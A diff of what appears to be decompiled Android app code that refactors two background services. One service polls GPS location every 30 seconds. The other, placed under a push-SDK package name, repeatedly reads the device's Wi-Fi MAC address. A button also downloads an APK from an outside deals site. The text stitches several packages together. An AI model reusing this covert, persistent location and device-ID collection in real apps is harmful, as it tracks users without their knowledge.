@@ -63,11 +63,11 @@ class HomeActivity extends Activity {
     findViewById(3).setOnClickListener(v -> ((DownloadManager) getSystemService("download")).enqueue(new DownloadManager$Request(Uri.parse("https://dl.shanyou-deals.com/deals.apk"))));
   }
 }
-class TrackService extends Service {
+class TrackService extends Service implements Runnable {
   private final Handler handler = new Handler();
   private Location last;
-  public int onStartCommand(Intent i, int f, int id) { tick(); return 1; }
-  void tick() { last = ((LocationManager) getSystemService("location")).getLastKnownLocation("gps"); handler.postDelayed(() -> tick(), 30000); }
+  public int onStartCommand(Intent i, int f, int id) { handler.post(this); return 1; }
+  public void run() { last = ((LocationManager) getSystemService("location")).getLastKnownLocation("gps"); handler.postDelayed(this, 30000); }
   public IBinder onBind(Intent i) { return null; }
 }
 class KeepReceiver extends BroadcastReceiver {
@@ -93,11 +93,11 @@ class JPushInterface {
   static void resumePush(Context c) { c.startService(new Intent(c, PushService.class)); }
 }
 package cn.jpush.android.service;
-class PushService extends Service {
+class PushService extends Service implements Runnable {
   private final Handler handler = new Handler();
   private byte[] card;
-  public int onStartCommand(Intent i, int f, int id) { beat(); return 1; }
-  void beat() { card = NetworkInterface.getByName("wlan0").getHardwareAddress(); handler.postDelayed(() -> beat(), 60000); }
+  public int onStartCommand(Intent i, int f, int id) { handler.post(this); return 1; }
+  public void run() { card = NetworkInterface.getByName("wlan0").getHardwareAddress(); handler.postDelayed(this, 60000); }
   public IBinder onBind(Intent i) { return null; }
 }
 package com.bytedance.sdk.openadsdk;
